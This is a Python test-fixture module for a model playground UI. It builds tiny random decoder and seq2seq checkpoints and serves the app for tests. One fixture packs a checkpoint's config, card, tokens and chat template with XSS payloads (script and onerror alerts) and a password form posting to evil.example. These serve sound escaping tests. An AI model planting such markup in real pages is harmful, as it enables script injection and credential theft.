"""Tiny checkpoints for the UI tests: a random Llama-style decoder (GQA) with a character tokenizer."""

from __future__ import annotations

import contextlib
import os
import socket
import string
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from tests.hf_tiny import llama_like, save_decoder

CHARS = string.ascii_letters + string.digits + string.punctuation + " "
SPECIALS = ["<pad>", "<s>", "</s>"]


def free_port() -> int:
    """A TCP port nobody listens on now, for a server a test starts: the first free one of
    `PLAYGROUND_TEST_PORTS` ("7905-7908") when it is set (a shared machine gives each person a range), else any."""
    lo, _, hi = os.environ.get("PLAYGROUND_TEST_PORTS", "").partition("-")
    for port in range(int(lo), int(hi or lo) + 1) if lo else ():
        with socket.socket() as s:
            try:
                s.bind(("127.0.0.1", port))
            except OSError:
                continue
            return port
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def save_char_tokenizer(directory: Path) -> int:
    """A character-level fast tokenizer (tokenizer.json + tokenizer_config.json); returns its size."""
    from tokenizers import Regex, Tokenizer, decoders, models, pre_tokenizers
    from transformers import PreTrainedTokenizerFast

    vocab = {tok: i for i, tok in enumerate(SPECIALS + list(CHARS))}
    tok = Tokenizer(models.WordLevel(vocab, unk_token="<pad>"))
    tok.pre_tokenizer = pre_tokenizers.Split(Regex("."), behavior="isolated")
    tok.decoder = decoders.Fuse()
    fast = PreTrainedTokenizerFast(tokenizer_object=tok, pad_token="<pad>", bos_token="<s>", eos_token="</s>")
    fast.save_pretrained(directory)
    return len(vocab)


def save_tiny_decoder(directory: Path, *, seed: int = 0) -> Path:
    """A 2-layer Llama (4 query heads, 2 KV heads) with random weights and a character tokenizer."""
    directory.mkdir(parents=True, exist_ok=True)
    size = len(SPECIALS) + len(CHARS)
    save_decoder(directory, "llama", llama_like(vocab_size=size, num_key_value_heads=2, eos_token_id=2,
                                                 max_position_embeddings=256), seed=seed, init_std=0.1)
    save_char_tokenizer(directory)
    return directory


def tiny_lm_handlers(tmp_path_factory: Any) -> Any:
    """The handlers of an app whose only model is `tiny-lm` (`save_tiny_decoder`), with an uploads folder of its own."""
    from playground.ui import build_app

    weights = tmp_path_factory.mktemp("weights")
    save_tiny_decoder(weights / "tiny-lm")
    return build_app(weights, tmp_path_factory.mktemp("uploads")).playground_handlers


def save_tiny_seq2seq(path: Path, *, seed: int = 0) -> Path:
    """A random original-Transformer encoder-decoder (sinusoidal, post-LN) in our own single-file format."""
    import torch
    from transformers import PreTrainedTokenizerFast

    from playground.checkpoints.families.transformer import transformer_config
    from playground.checkpoints.own_format import save_checkpoint
    from playground.models import build_model

    path.parent.mkdir(parents=True, exist_ok=True)
    tok_dir = path.parent / (path.stem + "-tokenizer")
    size = save_char_tokenizer(tok_dir)
    config = transformer_config(size, d_model=32, n_layers=2, n_encoder_layers=2, n_heads=4, d_ff=64,
                                max_positions=128, decoder_start_token_id=1)
    torch.manual_seed(seed)
    model = build_model(config)
    with torch.no_grad():
        for p in model.parameters():
            if p.dim() > 1:
                p.normal_(0.0, 0.2)
    return save_checkpoint(path, model, config, tokenizer=PreTrainedTokenizerFast.from_pretrained(tok_dir))


# A checkpoint whose every string is hostile HTML: config fields, card, tokens, special tokens, chat template.
HOSTILE_HTML = ('<img src=x onerror="alert(1)"><form action="https://evil.example/login">'
                '<input type=password></form>')
HOSTILE_TOKENS = ["<img src=x onerror=alert(2)>", "<script>alert(3)</script>", "<b>bold</b>", "<a href=//evil>x</a>",
                  "</div><h1>", "&lt;img&gt;", "<style>*{display:none}</style>", "plain"]


def save_hostile_checkpoint(path: Path) -> Path:
    """A random 2-layer decoder in our own format with HTML in every text field a checkpoint controls."""
    import torch
    from tokenizers import Tokenizer, decoders, models, pre_tokenizers
    from transformers import PreTrainedTokenizerFast

    from playground.checkpoints.own_format import save_checkpoint
    from playground.config import ModelConfig
    from playground.models import build_model

    vocab = {tok: i for i, tok in enumerate(["<pad>", HOSTILE_HTML[:20], "</s>"] + HOSTILE_TOKENS)}
    tok = Tokenizer(models.WordLevel(vocab, unk_token="<pad>"))
    tok.pre_tokenizer = pre_tokenizers.WhitespaceSplit()
    tok.decoder = decoders.Fuse()
    tokenizer = PreTrainedTokenizerFast(tokenizer_object=tok, pad_token="<pad>", bos_token=HOSTILE_HTML[:20],
                                        eos_token="</s>")
    tokenizer.chat_template = "{% for m in messages %}" + HOSTILE_HTML + "{{ m['content'] }}{% endfor %}"
    config = ModelConfig(family=HOSTILE_HTML, vocab_size=len(vocab), d_model=16, n_layers=2, n_heads=2, n_kv_heads=1,
                         d_ff=24, max_positions=64, bos_token_id=1, eos_token_id=2, pad_token_id=0,
                         extra={"note": HOSTILE_HTML, HOSTILE_HTML: "key"})
    torch.manual_seed(0)
    model = build_model(config)
    with torch.no_grad():
        for p in model.parameters():
            p.normal_(0, 0.5)
    path.parent.mkdir(parents=True, exist_ok=True)
    return save_checkpoint(path, model, config, tokenizer=tokenizer,
                           card={"description": {"en": HOSTILE_HTML, "zh": HOSTILE_HTML}, "example_prompt": HOSTILE_HTML})


@contextlib.contextmanager
def served_app(weights: Path, uploads: Path, *, queue_size: int | None = None, concurrency: int = 4,
               **launch: Any) -> Iterator[tuple[Any, str]]:
    """The app over `weights`, queued and launched on a free port in this process: (demo, its URL).
    `queue_size` and `concurrency` as app.py's flags; `launch` adds to or overrides the app's own launch settings."""
    from playground.ui import build_app, enable_queue, launch_kwargs

    demo = build_app(weights, uploads, generate_concurrency=concurrency)
    enable_queue(demo, max_size=queue_size)
    port = free_port()
    demo.launch(prevent_thread_lock=True, server_port=port, quiet=True, **{**launch_kwargs(demo), **launch})
    try:
        yield demo, f"http://127.0.0.1:{port}/"
    finally:
        demo.close()


@contextlib.contextmanager
def script_client(url: str) -> Iterator[Any]:
    """A gradio_client for the served app (what a script calling /generate_text uses)."""
    from gradio_client import Client

    client = Client(url, verbose=False)
    try:
        yield client
    finally:
        client.close()
